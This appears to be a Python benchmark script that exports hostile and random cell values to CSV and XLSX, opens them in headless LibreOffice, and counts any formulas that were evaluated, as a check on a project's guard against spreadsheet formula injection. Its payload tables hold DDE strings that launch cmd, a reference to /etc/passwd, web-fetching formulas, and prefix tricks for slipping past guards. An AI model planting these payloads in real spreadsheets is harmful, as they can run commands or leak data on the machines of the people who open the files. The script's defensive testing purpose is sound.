"""Cells that mean harm, exported through the one road and opened in LibreOffice: is any of them worked out?

./goldthread bench exported_cells [--cells 100000] [--seed N] [--json]

Random and hostile texts and numbers go out as CSV and as XLSX. LibreOffice, without a window, opens each
file and saves it again: the CSV file once as it opens one by itself, and once told to evaluate formulas.
A cell that came back as a formula, or a file with a link to another, was evaluated. A text that came back
otherwise differs; CSV tells no text from a number, so one that LibreOffice took for a number or a day is
counted apart. Characters that no XML file can hold are left out of the comparison, and line breaks one after another are one.
Exit code 1 where a cell was evaluated or differs, 3 where LibreOffice is not there and cannot be brought.
"""

import argparse
import json
import random
import re
import shutil
import subprocess
import sys
import tempfile
from dataclasses import asdict, dataclass
from datetime import UTC, datetime
from pathlib import Path
from time import perf_counter
from typing import Any

ROOT = Path(__file__).parents[1]
COLUMNS = 20
MISSING = "LibreOffice is not here and could not be brought: “apt-get install libreoffice-calc” brings it."
PACKAGE = ("apt-get", "install", "-y", "-qq", "--no-install-recommends", "libreoffice-calc")
BEGINS = (
    *(
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "\r\n=",
        "\x00=",
        " =",
        "\u00a0=",
        "\u3000=",
        "\ufeff=",
    ),
    *(
        "\uff1d",
        "\uff0b",
        "\uff0d",
        "\uff20",
        "'=",
        '"=',
        "''=",
        "%3D",
        "\v=",
        "\f=",
        "\u200b=",
        "\u202e=",
    ),
    *(";=", ",=", "|=", "=\t", "={", "=-", "--", "++", "-=", "+=", "@=", "\t@", "\n+", "\r-"),
)
BODIES = (
    *("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'DDE("cmd";"/C calc";"x")', "1E3", "NOW()", "2-1"),
    *('HYPERLINK("http://example.org/?"&A1,"open")', 'WEBSERVICE("http://example.org")', "RAND()"),
    *('IMPORTXML("http://example.org","//a")', "'file:///etc/passwd'#$a.A1", "msexcel|'\\..\\x'!x"),
    *(
        "A1",
        "of:=1+1",
        "{1,2}",
        'INFO("directory")',
        "SUM(1)*cmd|'x'!y",
        '"&A1&"',
        '";=1+1;"',
        ",=1+1,",
    ),
    *(
        "\t=1+1",
        "\n=1+1",
        "\r\n=1+1",
        '",\r\n=1+1',
        "'",
        '"',
        "1%",
        "TRUE",
        "Anna",
        "café",
        "\U0001f9f5",
    ),
)
LETTERS = "abc XYZ09=+-@\t\r\n'\",;|:.()/\\#%&é\uff1d\u3000\u2019\U0001f9f5"


@dataclass
class Found:
    """What came of one file: its cells, and how long LibreOffice took, in seconds."""

    file: str
    cells: int
    evaluated: int
    differing: int
    taken_for_numbers: int
    seconds: float


def main() -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--cells", type=int, default=100_000)
    parser.add_argument("--seed", type=int, default=20261122)
    parser.add_argument("--json", action="store_true")
    wanted = parser.parse_args()
    sys.path[:0] = [str(ROOT), str(ROOT / "src")]
    if not (program := _office()):
        print(MISSING, file=sys.stderr)
        return 3
    with tempfile.TemporaryDirectory() as folder:
        found = _measured(wanted, program, Path(folder))
    if wanted.json:
        print(json.dumps([asdict(each) for each in found], indent=2))
    else:
        _print(found)
    return 1 if any(each.evaluated or each.differing for each in found) else 0


def _office() -> str:
    """LibreOffice's program, brought where the system's packages can be; "" where not."""
    if not (there := _installed()) and shutil.which("apt-get"):
        subprocess.run(["apt-get", "update", "-qq"], check=False, capture_output=True)
        subprocess.run(PACKAGE, check=False, capture_output=True)
        there = _installed()
    return there


def _installed() -> str:
    return shutil.which("soffice") or shutil.which("libreoffice") or ""


def _measured(wanted: Any, program: str, folder: Path) -> list[Found]:
    from goldthread.files.stamp import Stamp
    from goldthread.outputs.spreadsheet import About, Sheet, csv, stamped_csv, xlsx

    chance = random.Random(wanted.seed)
    rows = [[_cell(chance) for _ in range(COLUMNS)] for _ in range(wanted.cells // COLUMNS)]
    heads = tuple(f"=column {n}" for n in range(COLUMNS))
    stamp = Stamp("=Somebody", datetime(2026, 5, 20, 9, 30, tzinfo=UTC), "@A partnership")
    (folder / "cells.csv").write_bytes(stamped_csv(csv(heads, rows), stamp))
    written = xlsx(About("=Title", stamp), [Sheet("Figures", heads, rows)])
    (folder / "cells.xlsx").write_bytes(written)
    as_it_opens = "44,34,76,1,,2057,false,true"
    return [
        _opened(program, folder, "cells.csv", rows, "CSV", f"CSV:{as_it_opens}"),
        _opened(
            program,
            folder,
            "cells.csv",
            rows,
            "CSV, evaluating",
            f"CSV:{as_it_opens},false,false,false,0,true",
        ),
        _opened(program, folder, "cells.xlsx", rows, "XLSX", ""),
    ]


def _cell(chance: random.Random) -> Any:
    kind = chance.random()
    if kind < 0.5:
        return chance.choice(BEGINS) + chance.choice(BODIES)
    if kind < 0.9:
        return "".join(chance.choice(LETTERS) for _ in range(chance.randint(1, 24)))
    return chance.choice((chance.randint(-(10**6), 10**6), round(chance.uniform(-99, 99), 2)))


def _opened(
    program: str, folder: Path, name: str, rows: list[list[Any]], words: str, reading: str
) -> Found:
    begun = perf_counter()
    out = folder / words.replace(", ", "-")
    of_its_own = f"-env:UserInstallation=file://{folder}/profile"
    read_as = [f"--infilter={reading}"] if reading else []
    subprocess.run(
        [program, of_its_own, "--headless", *read_as, "--convert-to", "xlsx:Calc MS Excel 2007 XML"]
        + ["--outdir", str(out), str(folder / name)],
        check=True,
        capture_output=True,
        timeout=900,
    )
    seconds = perf_counter() - begun
    evaluated, differing, numbers = _compared(out / "cells.xlsx", rows, is_csv=name.endswith("csv"))
    return Found(words, sum(map(len, rows)), evaluated, differing, numbers, round(seconds, 1))


def _compared(file: Path, rows: list[list[Any]], *, is_csv: bool) -> tuple[int, int, int]:
    """(evaluated, differing, texts that were taken for numbers) of a file that came back."""
    from zipfile import ZipFile

    import openpyxl

    with ZipFile(file) as packed:
        evaluated = sum(
            "externalLink" in name or "connection" in name for name in packed.namelist()
        )
    book = openpyxl.load_workbook(file, rich_text=False)
    evaluated += sum(
        c.data_type == "f" for sheet in book for line in sheet.iter_rows() for c in line
    )
    sheet = book.worksheets[0] if is_csv else book["Figures"]
    differing = numbers = 0
    for line, row in enumerate(rows, 2):
        for place, meant in enumerate(row, 1):
            came = sheet.cell(line, place).value
            if isinstance(meant, str) and came is not None and not isinstance(came, str):
                numbers += 1
                differing += not is_csv
            elif not _same(meant, came, is_csv=is_csv):
                differing += 1
                if differing <= 5:
                    print(
                        f"differs in row {line}: {meant!r} came back as {came!r}", file=sys.stderr
                    )
    return evaluated, differing, numbers


def _same(meant: Any, came: Any, *, is_csv: bool) -> bool:
    from goldthread.files.guarding import as_it_was

    if not isinstance(meant, str):
        return isinstance(came, int | float) and abs(came - meant) < 1e-9
    said = _plain(came or "")
    return _plain(meant) in ((_plain(as_it_was(said)), said) if is_csv else (said,))


def _plain(text: str) -> str:
    """Without what XML cannot hold, each line break as one and the same."""
    from goldthread.outputs.legible import legible

    text = re.sub("_x([0-9A-Fa-f]{4})_", lambda code: chr(int(code[1], 16)), text)
    return legible(re.sub("[\r\n\u2028\u2029]+", "\n", text))


def _print(found: list[Found]) -> None:
    print("file                cells  evaluated  differing  texts taken for numbers  seconds")
    for each in found:
        print(
            f"{each.file:16} {each.cells:>8,} {each.evaluated:>10,} {each.differing:>10,}"
            f" {each.taken_for_numbers:>24,} {each.seconds:>8}"
        )


if __name__ == "__main__":
    sys.exit(main())
